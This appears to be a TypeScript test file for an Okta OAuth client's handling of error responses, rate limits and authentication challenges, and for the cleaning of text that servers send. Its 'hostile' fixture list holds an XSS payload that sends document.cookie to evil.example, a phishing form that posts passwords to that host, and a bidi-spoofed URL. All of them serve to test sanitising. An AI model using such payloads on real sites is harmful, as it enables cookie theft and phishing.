import { worded, wordsOf } from '../../../src-preload/contract/words/testing/worded.ts';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { appErrorSchema, type RequestKind } from '../../../src-preload/contract/index.ts';
import { type Result, silentLogger } from '../base/index.ts';
import { systemClock } from '../../node/system-clock.ts';
import { codesWithSentences, groups, sentencesOf } from '../../../src-preload/contract/words/en/okta/index.ts';
import { createOktaClient } from './client.ts';
import { plainError } from './failure.ts';
import { serverErrorFailure } from './server-errors.ts';
import { metadataOf, type Script } from './testing/scripted-server.ts';
import { type Bench, containing, keysPath, matching, metadataPath, startBench, tokenPath } from './testing/server-test.ts';
import type { OktaFailure } from './types.ts';

const entries = groups.flatMap((group) => group.entries);

/** What a server may put in the place of words. */
const hostile: readonly (readonly [string, string])[] = [
  ['HTML', '<h1>Sign in again</h1><form action="https://evil.example"><input name=password></form>'],
  ['a script', '"><script>fetch("https://evil.example/?"+document.cookie)</script>'],
  ['a megabyte', 'Your session is over. '.repeat(50_000)],
  ['a megabyte without a blank', 'x'.repeat(1_000_000)],
  ['direction marks', 'Go to \u202Egro.live\u202C\u2066\u2069\u200F now'],
  ['control characters', 'one\u0000two\u001B[31mthree\r\nfour\u2028five\u0085six\u200Bseven\uFEFF'],
  ['half characters', `\uD83D ${'\u{1F600}'.repeat(400)}\uDE00`],
  ['a token', 'The token eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln and code=Zk3pQ9x1&state=Zk3pQ9x1'],
];

const unfit = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u;

const expectFit = (failure: OktaFailure): void => {
  const { message = '', explanation } = wordsOf(failure);
  for (const text of [message, JSON.stringify(explanation)]) {
    expect(text).not.toMatch(unfit);
    expect(text).not.toContain('eyJ');
  }
  expect(appErrorSchema.safeParse(plainError(failure)).error?.issues).toBeUndefined();
  expect((explanation?.said ?? '').length).toBeLessThanOrEqual(100);
  expect((explanation?.description ?? '').length).toBeLessThanOrEqual(300);
  expect(message.length).toBeLessThanOrEqual(700);
};

describe('serverErrorFailure', () => {
  it.each([
    ['invalid_client', null, 'invalid_client', 'right choice is None'],
    ['invalid_scope', null, 'invalid_scope', 'Scopes'],
    ['access_denied', 'User is not assigned to the client application.', 'access_denied', 'Assignments'],
    ['access_denied', "The request is made from outside the client's permitted network zones.", 'access_denied', 'Security > Networks'],
    [
      'access_denied',
      'Policy evaluation failed for this request, please check the policy configurations.',
      'policy_denied',
      'Access Policies',
    ],
    ['invalid_grant', 'Policy evaluation failed', 'oauth_error', 'Access Policies'],
    ['E0000011', 'Invalid token provided', 'oauth_error', 'Issuer URI'],
    ['login_required', null, 'login_required', 'Global Session Policy'],
    ['unauthorized_client', null, 'unauthorized_client', 'Grant type'],
    ['use_dpop_nonce', null, 'oauth_error', 'DPoP'],
    ['E0000015', 'You do not have permission to access the feature you are requesting', 'policy_denied', 'API Access Management'],
    ['E0000047', null, 'rate_limited', 'Rate Limits'],
    ['something_new', null, 'oauth_error', 'System Log'],
    ['__proto__', null, 'oauth_error', 'System Log'],
    ['toString', null, 'oauth_error', 'System Log'],
  ])('%s (%s) is %s', (error, description, code, admin) => {
    const request = error === 'invalid_grant' || error === 'use_dpop_nonce' ? 'refresh' : 'authorization';
    expect(worded(serverErrorFailure(error, description, request))).toMatchObject({
      code,
      remedy: matching(/\S/),
      explanation: { said: error, description, cause: matching(/\S/), admin: containing(admin) },
      inDoubt: false,
    });
  });

  it('says the rest in its own words where it recognises Okta’s, and else in the server’s', () => {
    const known = serverErrorFailure('access_denied', 'User is not assigned to the client application.', 'refresh');
    expect(worded(known)).toMatchObject({ message: 'The account is not assigned to the app.', remedy: containing('assign') });
    const other = 'User is not assigned to the client application. Call +1 900 to mend it.';
    expect(wordsOf(serverErrorFailure('access_denied', other, 'refresh')).message).toContain(`The server said: “${other}”`);
  });

  it('shows a code it does not know as it came, and says that it does not know it', () => {
    expect(worded(serverErrorFailure('x_tenant/quarantined', 'Ask <b>us</b>.', 'refresh'))).toMatchObject({
      code: 'oauth_error',
      message: 'The authorization server answered with the error “x_tenant/quarantined”. The server said: “Ask <b>us</b>.”',
      explanation: { said: 'x_tenant/quarantined', description: 'Ask <b>us</b>.', cause: containing('does not know this code') },
    });
  });

  it.each(hostile)('makes %s fit to be shown, as code and as description', (_, text) => {
    for (const error of ['invalid_grant', 'something_new', text])
      for (const description of [null, text]) expectFit(serverErrorFailure(error, description, 'refresh'));
  });

  it('lets nothing of a server’s text out unbounded or unclean, and no description change what a code means', () => {
    const anything = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 3000 }),
      fc.constantFrom(
        ...hostile.map(([, text]) => text),
        ...codesWithSentences.flatMap((code) => sentencesOf(code).map(({ said }) => said)),
      ),
    );
    const code = fc.oneof(fc.constantFrom(...entries.map((entry) => entry.code)), anything);
    fc.assert(
      fc.property(code, anything, (error, description) => {
        const bare = serverErrorFailure(error, null, 'refresh');
        const failure = serverErrorFailure(error, description, 'refresh');
        expectFit(failure);
        expect(failure.code).not.toBe('invalid_grant');
        // A policy's denial has a name of its own; sessions/policy.test.ts sees that its fate is the same.
        if (failure.code !== bare.code) expect([bare.code, failure.code]).toEqual(['access_denied', 'policy_denied']);
        expect(wordsOf(failure).explanation).toMatchObject({
          said: failure.parameters['error'] === '' ? null : failure.parameters['error'],
          description: failure.parameters['description'] ?? null,
        });
      }),
      { numRuns: 500 },
    );
  });

  it('shows no token a server may have echoed, however long the text around it', () => {
    const token = 'eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln';
    for (const padding of [0, 270, 295, 1190])
      expect(JSON.stringify(serverErrorFailure('invalid_grant', `${'x '.repeat(padding / 2)}${token}`, 'refresh'))).not.toContain('eyJ');
  });
});

describe('an error answer', () => {
  it('waits for the rate limit’s end by the server’s clock', async () => {
    const serverNow = Date.now() + 3_600_000;
    await using bench = await startBench({
      [tokenPath]: (_request, response) =>
        void response
          .writeHead(429, {
            date: new Date(serverNow).toUTCString(),
            'x-rate-limit-limit': '4',
            'x-rate-limit-remaining': '0',
            'x-rate-limit-reset': String(Math.floor(serverNow / 1000) + 20),
          })
          .end('{"errorCode":"E0000047","errorSummary":"Too many requests"}'),
    });
    const before = Date.now();
    const outcome = await bench.refresh();
    expect(outcome).toMatchObject({
      ok: false,
      error: { code: 'rate_limited', parameters: { error: 'E0000047', description: 'Too many requests' } },
    });
    const retryAt = outcome.ok ? 0 : (outcome.error.retryAt ?? 0);
    expect(retryAt).toBeGreaterThanOrEqual(before + 20_000);
    expect(retryAt).toBeLessThanOrEqual(Date.now() + 20_000);
  });

  it.each([
    ['{"error":5}', 'http_error'],
    ['{"error":""}', 'http_error'],
    ['[1]', 'http_error'],
    ['null', 'http_error'],
    ['{"error":"invalid_grant","error_description":{"a":1}}', 'invalid_grant'],
    ['{"errorCode":"E0000011","errorSummary":"Invalid token provided"}', 'oauth_error'],
    ['{"errorCode":"invalid_grant"}', 'oauth_error'],
    // Both: the standard's own word counts. One that is no string is none.
    ['{"error":"invalid_grant","errorCode":"E0000047"}', 'invalid_grant'],
    ['{"errorCode":"invalid_grant","error":"access_denied","errorSummary":"gone"}', 'access_denied'],
    ['{"error":["invalid_grant"],"errorCode":"E0000006"}', 'access_denied'],
    ['{"error":{"code":"invalid_grant"}}', 'http_error'],
    ['{"error":true,"error_description":"invalid_grant"}', 'http_error'],
  ])('400 with %s is %s', async (body, code) => {
    await using bench = await startBench({ [tokenPath]: (_request, response) => void response.writeHead(400).end(body) });
    expect(await bench.refresh()).toMatchObject({ ok: false, error: { code, status: 400, inDoubt: false } });
  });

  it.each(hostile)('whose description is %s is read, cut and cleaned', async (_, text) => {
    const body = JSON.stringify({ error: 'access_denied', error_description: text });
    await using bench = await startBench({ [tokenPath]: (_request, response) => void response.writeHead(400).end(body) });
    const outcome = await bench.refresh();
    expect(outcome).toMatchObject({ ok: false, error: { code: 'access_denied', status: 400, parameters: { error: 'access_denied' } } });
    if (!outcome.ok) expectFit(outcome.error);
  });

  it.each([
    [429, 'invalid_grant', 'rate_limited', 'Too many requests'],
    [500, 'invalid_grant', 'http_error', 'Trouble of the server’s own'],
    [503, 'E0000010', 'http_error', 'being maintained'],
  ])('with status %i and %s is explained by its status', async (status, error, code, cause) => {
    const body = JSON.stringify({ error, error_description: 'API call exceeded rate limit due to too many requests.' });
    await using bench = await startBench({ [tokenPath]: (_request, response) => void response.writeHead(status).end(body) });
    expect(worded(await bench.refresh())).toMatchObject({
      ok: false,
      error: { code, status, explanation: { said: error, cause: containing(cause) } },
    });
  });

  it.each([
    ['Bearer error="invalid_token", error_description="The token has expired."', 'oauth_error', 'invalid_token', 'The token has expired.'],
    ['Bearer realm="x", scope="openid", error_description="no", error="insufficient_scope"', 'invalid_scope', 'insufficient_scope', 'no'],
    ['DPoP algs="ES256", error="invalid_dpop_proof"', 'oauth_error', 'invalid_dpop_proof', null],
    ['Bearer error="invalid_grant"', 'oauth_error', 'invalid_grant', null],
    ['Bearer realm="x"', 'http_error', undefined, undefined],
    [`Bearer error="${'x'.repeat(9000)}"`, 'http_error', undefined, undefined],
    ['Bearer my-error="x", error=invalid_token', 'http_error', undefined, undefined],
  ])('of userinfo is read from its challenge: %s', async (challenge, code, said, description) => {
    const refuse: Script = (_request, response) => void response.writeHead(401, { 'www-authenticate': challenge }).end();
    await using bench = await startBench({ '/oauth2/default/v1/userinfo': refuse });
    const outcome = await bench.okta.userinfo(bench.client, 'token', null);
    expect(outcome).toMatchObject({ ok: false, error: { code, status: 401, inDoubt: false } });
    expect(outcome.ok ? null : wordsOf(outcome.error).explanation?.said).toBe(said);
    expect(outcome.ok ? null : wordsOf(outcome.error).explanation?.description).toBe(description);
  });

  it('says nothing in a challenge of the token endpoint', async () => {
    const headers = { 'www-authenticate': 'Bearer error="invalid_grant"' };
    await using bench = await startBench({ [tokenPath]: (_request, response) => void response.writeHead(401, headers).end() });
    expect(worded(await bench.refresh())).toMatchObject({ ok: false, error: { code: 'http_error', message: containing('no reason') } });
  });

  it.each([
    [407, 'The proxy on the way to acme.okta.com wants credentials.', 'switch the proxy off'],
    [511, 'signed in to it', 'browser'],
  ])('of a network that wants a sign-in of its own (%i) went no further', async (status, message, remedy) => {
    const outcome = await createOktaClient({
      fetch: async (url) =>
        url.endsWith('/token')
          ? await Promise.resolve(new Response('<html>', { status }))
          : Response.json(metadataOf('https://acme.okta.com')),
      clock: systemClock,
      logger: silentLogger,
    }).refresh({ issuer: 'https://acme.okta.com', clientId: 'c', approvedOrigins: [] }, { refreshToken: 'old' }, async () => {});
    expect(worded(outcome)).toMatchObject({
      ok: false,
      error: { code: 'http_error', status, inDoubt: false, message: containing(message), remedy: containing(remedy) },
    });
  });

  const wrongPlaces = ['{"error":"invalid_grant","error_description":"gone"}', '{"errorCode":"E0000011","errorSummary":"gone"}'];

  it.each(wrongPlaces)('to a request for metadata or keys says nothing of a session: %s', async (body) => {
    const dead =
      (status: number): Script =>
      (_request, response) =>
        void response.writeHead(status).end(body);
    for (const status of [400, 401, 403]) {
      await using bench = await startBench({ [metadataPath]: dead(status), [keysPath]: dead(status) });
      const explanation = { description: 'gone', cause: containing('says nothing of your session') };
      const error = {
        code: 'http_error',
        status,
        message: containing('gone'),
        parameters: { description: 'gone' },
        explanation,
        inDoubt: false,
      };
      expect(worded(await bench.refresh())).toMatchObject({ ok: false, error });
      bench.server.scripts[metadataPath] = (_request, _response, origin) => metadataOf(`${origin}/oauth2/default`);
      expect(worded(await bench.okta.keys(bench.client))).toMatchObject({ ok: false, error });
    }
    await using bench = await startBench({ [metadataPath]: dead(404) });
    expect(await bench.refresh()).toMatchObject({ ok: false, error: { code: 'issuer_not_found' } });
  });

  it.each(wrongPlaces)('to a request about a token other than for one is no invalid_grant: %s', async (body) => {
    const dead: Script = (_request, response) => void response.writeHead(400).end(body);
    await using bench = await startBench({ '/oauth2/default/v1/revoke': dead, '/oauth2/default/v1/introspect': dead });
    const error = { code: 'oauth_error', message: matching(/\S/), remedy: matching(/\S/) };
    expect(worded(await bench.okta.revoke(bench.client, 'token', 'refresh_token'))).toMatchObject({ ok: false, error });
    expect(worded(await bench.okta.introspect(bench.client, 'token', 'refresh_token'))).toMatchObject({ ok: false, error });
  });
});

describe('a pushed request', () => {
  const pushPath = '/oauth2/default/v1/par';
  const startPush = async (push: Script) =>
    await startBench({
      [metadataPath]: (_request, _response, origin) => ({
        ...metadataOf(`${origin}/oauth2/default`),
        pushed_authorization_request_endpoint: `${origin}${pushPath}`,
      }),
      [pushPath]: push,
    });
  const created =
    (body: object): Script =>
    (_request, response) => {
      response.writeHead(201, { 'content-type': 'application/json' }).end(JSON.stringify(body));
    };

  it('is answered with 201 (RFC 9126, 2.2)', async () => {
    await using bench = await startPush(created({ request_uri: 'urn:example:1', expires_in: 60 }));
    const pushed = await bench.okta.pushAuthorization(bench.client, [['scope', 'openid']]);
    expect(pushed).toMatchObject({ ok: true, value: containing('request_uri=urn%3Aexample%3A1') });
  });

  it('is the only one that 201 answers', async () => {
    await using bench = await startBench({ [tokenPath]: created({ access_token: 'a', token_type: 'Bearer' }) });
    expect(await bench.refresh()).toMatchObject({ ok: false, error: { code: 'http_error', status: 201 } });
  });
});

describe('what the words of an invalid_grant are about', () => {
  it.each([
    ["The request is made from outside the client's permitted network zones.", 'network'],
    ['Policy evaluation failed for this request, please check the policy configurations.', 'policy'],
    ['User is not assigned to the client application.', 'policy'],
    ['The user is suspended.', 'user'],
    ['The refresh token is invalid or expired.', undefined],
  ])('%s', async (description, about) => {
    await using bench = await startBench({
      [tokenPath]: (_request, response) =>
        void response
          .writeHead(400, { 'content-type': 'application/json' })
          .end(JSON.stringify({ error: 'invalid_grant', error_description: description })),
    });
    expect(await bench.refresh()).toMatchObject({ ok: false, error: { code: 'invalid_grant', about } });
  });
});

describe('the request that was declined', () => {
  const root = '/oauth2/default/v1';
  const decline: Script = (_request, response) => void response.writeHead(400).end('{"error":"invalid_request"}');
  const requests: readonly (readonly [RequestKind, string, (bench: Bench) => Promise<Result<unknown, OktaFailure>>])[] = [
    ['par', '/par', async ({ okta, client }) => await okta.pushAuthorization(client, [['scope', 'openid']])],
    [
      'code',
      '/token',
      async ({ okta, client }) =>
        await okta.exchangeCode(client, {
          callbackUrl: 'com.okta.acme:/callback?code=c&state=s',
          redirectUri: 'com.okta.acme:/callback',
          state: 's',
          nonce: 'n',
          codeVerifier: 'v'.repeat(43),
        }),
    ],
    [
      'authorization',
      '/token',
      async ({ okta, client }) =>
        await okta.exchangeCode(client, {
          callbackUrl: 'com.okta.acme:/callback?error=invalid_request&state=s',
          redirectUri: 'com.okta.acme:/callback',
          state: 's',
          nonce: 'n',
          codeVerifier: 'v'.repeat(43),
        }),
    ],
    ['refresh', '/token', async (bench) => await bench.refresh()],
    [
      'password',
      '/token',
      async ({ okta, client }) => await okta.requestTokens(client, { grant: 'password', username: 'dana', password: 'pass', scopes: [] }),
    ],
    ['device_authorization', '/device/authorize', async ({ okta, client }) => await okta.authorizeDevice(client, ['openid'])],
    ['device_code', '/token', async ({ okta, client }) => await okta.requestTokens(client, { grant: 'device_code', deviceCode: 'd' })],
    [
      'client_credentials',
      '/token',
      async ({ okta, client }) => await okta.requestTokens(client, { grant: 'client_credentials', scopes: ['orders.read'] }),
    ],
    ['revoke', '/revoke', async ({ okta, client }) => await okta.revoke(client, 'token', 'access_token')],
    ['introspect', '/introspect', async ({ okta, client }) => await okta.introspect(client, 'token', 'access_token')],
    ['userinfo', '/userinfo', async ({ okta, client }) => await okta.userinfo(client, 'token', null)],
  ];

  it.each(requests)('is told from the others: %s', async (request, path, ask) => {
    await using bench = await startBench({
      [metadataPath]: (_request, _response, origin) => ({
        ...metadataOf(`${origin}/oauth2/default`),
        pushed_authorization_request_endpoint: `${origin}${root}/par`,
        device_authorization_endpoint: `${origin}${root}/device/authorize`,
      }),
      [`${root}${path}`]: decline,
    });
    const { message, remedy, explanation } = wordsOf(serverErrorFailure('invalid_request', null, request));
    expect(worded(await ask(bench))).toMatchObject({ ok: false, error: { code: 'invalid_request', message, remedy, explanation } });
  });
});
